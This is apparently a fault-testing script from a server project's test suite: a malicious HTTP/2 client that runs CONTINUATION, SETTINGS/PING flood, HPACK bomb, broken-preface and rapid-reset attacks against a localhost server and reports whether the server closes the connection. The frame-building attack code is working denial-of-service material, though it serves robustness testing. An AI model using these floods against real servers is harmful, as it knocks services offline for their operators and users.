#!/usr/bin/python3
"""tests/fault/tools/h2_attack.py PORT ATTACK [TOKEN]: one malicious HTTP/2 client over h2c
(prior knowledge), frames built with Debian's python3-hyperframe and python3-hpack, written
straight to a socket (no h2 state machine in the way).

Attacks:
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS forever
  settings      SETTINGS frames as fast as possible, never reading the ACKs
  ping          PING frames as fast as possible, never reading the ACKs
  hpack         a header block that grows the dynamic table past its limit, then a 1 MiB
                decoded-size bomb: one large entry referenced again and again
  preface       a broken connection preface
  reset_db      HEADERS + RST_STREAM pairs on a database-backed route (GET /api/v1/me)

Prints one JSON line: {"attack", "sent_bytes", "frames", "closed" (the server closed the
connection or sent GOAWAY), "goaway_error", "seconds"}. Stops after LIMIT_BYTES (32 MiB) or
LIMIT_S (20 s) at the latest."""
import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, Frame)

LIMIT_BYTES = 32 << 20
LIMIT_S = 20.0
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


class Conn:
    def __init__(self, port):
        self.s = socket.create_connection(('127.0.0.1', port), timeout=5)
        self.s.setblocking(False)
        self.sent = 0
        self.frames = 0
        self.closed = False
        self.goaway = None
        self.rx = b''

    def poll(self):
        """Read what the server sent (without blocking); notes EOF and GOAWAY."""
        while not self.closed:
            try:
                data = self.s.recv(65536)
            except BlockingIOError:
                return
            except (ConnectionResetError, BrokenPipeError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.rx += data
            while len(self.rx) >= 9:
                length = int.from_bytes(self.rx[:3], 'big')
                if len(self.rx) < 9 + length:
                    break
                ftype = self.rx[3]
                if ftype == 0x7 and self.goaway is None:
                    f, _ = Frame.parse_frame_header(memoryview(self.rx[:9]))
                    f.parse_body(memoryview(self.rx[9:9 + length]))
                    self.goaway = f.error_code
                self.rx = self.rx[9 + length:]

    def send(self, data, read=True):
        """Write all of data unless the server closes; False once it has."""
        view = memoryview(data)
        while view and not self.closed:
            if read:
                self.poll()
            try:
                n = self.s.send(view)
                view = view[n:]
                self.sent += n
            except BlockingIOError:
                # The server is not reading: wait a little for it (or for its close).
                r, w, _ = select.select([self.s], [self.s], [], 0.5)
                if r:
                    self.poll()
                if not w and not r:
                    return not self.closed
            except (ConnectionResetError, BrokenPipeError, OSError):
                self.closed = True
        return not self.closed

    def frame(self, f, read=True):
        self.frames += 1
        return self.send(f.serialize(), read)


def start(c, settings=True):
    c.send(PREFACE)
    if settings:
        c.frame(SettingsFrame(0, settings={}))


def attack_continuation(c, t0, token):
    start(c)
    enc = Encoder()
    block = enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/healthz'),
                        (':authority', 'x')])
    c.frame(HeadersFrame(1, data=block, flags=['END_STREAM']))
    i = 0
    while c.sent < LIMIT_BYTES and time.time() - t0 < LIMIT_S:
        # literal header without indexing, new name: 16 KiB of junk per frame
        name = ('x-junk-%d' % i).encode()
        val = b'a' * 16000
        frag = b'\x00' + bytes([len(name)]) + name + b'\x7f' + encode_int(len(val) - 127) + val
        if not c.frame(ContinuationFrame(1, data=frag)):
            break
        i += 1


def encode_int(n):
    out = b''
    while n >= 128:
        out += bytes([(n & 0x7f) | 0x80])
        n >>= 7
    return out + bytes([n])


def attack_flood(c, t0, make):
    start(c)
    batch = b''.join(make(i).serialize() for i in range(1000))
    while c.sent < LIMIT_BYTES and time.time() - t0 < LIMIT_S:
        c.frames += 1000
        if not c.send(batch, read=False):
            break
        # never read: the server's answers pile up on its side unless it bounds them
    c.poll()


def attack_hpack(c, t0, token):
    start(c)
    # 1. a dynamic table size update far above SETTINGS_HEADER_TABLE_SIZE (4096): must be an
    #    error of the whole connection (RFC 7541 6.3)
    block = b'\x3f' + encode_int(0xfffffff - 31) + Encoder().encode(
        [(':method', 'GET'), (':scheme', 'http'), (':path', '/healthz'), (':authority', 'x')])
    c.frame(HeadersFrame(1, data=block, flags=['END_STREAM', 'END_HEADERS']))
    time.sleep(0.3)
    c.poll()
    if c.closed:
        return
    # 2. (if still open) a 4000-byte entry added to the table once, then referenced 16384
    #    times: 64 MiB of decoded headers from a 16 KiB block
    enc = Encoder()
    base = enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/healthz'),
                       (':authority', 'x'), ('x-big', 'b' * 4000)])
    refs = b'\xbe' * 16384  # indexed field 62: the newest dynamic entry
    c.frame(HeadersFrame(3, data=base + refs, flags=['END_STREAM', 'END_HEADERS']))
    time.sleep(0.5)
    c.poll()


def attack_preface(c, t0, token):
    c.send(b'PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n' + b'\x00' * 64)
    while time.time() - t0 < 5 and not c.closed:
        time.sleep(0.05)
        c.poll()


def attack_reset_db(c, t0, token):
    start(c)
    enc = Encoder()
    sid = 1
    while c.sent < LIMIT_BYTES and time.time() - t0 < LIMIT_S and sid < 40001:
        block = enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/api/v1/me'),
                            (':authority', 'x'), ('authorization', 'Bearer ' + token)])
        data = HeadersFrame(sid, data=block, flags=['END_STREAM', 'END_HEADERS']).serialize() + \
            RstStreamFrame(sid, error_code=8).serialize()
        c.frames += 2
        if not c.send(data):
            break
        sid += 2


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    token = sys.argv[3] if len(sys.argv) > 3 else ''
    c = Conn(port)
    t0 = time.time()
    if attack == 'continuation':
        attack_continuation(c, t0, token)
    elif attack == 'settings':
        attack_flood(c, t0, lambda i: SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}))
    elif attack == 'ping':
        attack_flood(c, t0, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, 'big')))
    elif attack == 'hpack':
        attack_hpack(c, t0, token)
    elif attack == 'preface':
        attack_preface(c, t0, token)
    elif attack == 'reset_db':
        attack_reset_db(c, t0, token)
    else:
        sys.exit('unknown attack ' + attack)
    # Give the server a moment to say GOAWAY / close, then report.
    end = time.time() + 2
    while time.time() < end and not c.closed:
        time.sleep(0.05)
        c.poll()
    print(json.dumps({'attack': attack, 'sent_bytes': c.sent, 'frames': c.frames,
                      'closed': c.closed or c.goaway is not None, 'goaway_error': c.goaway,
                      'seconds': round(time.time() - t0, 2)}))
    c.s.close()


if __name__ == '__main__':
    main()
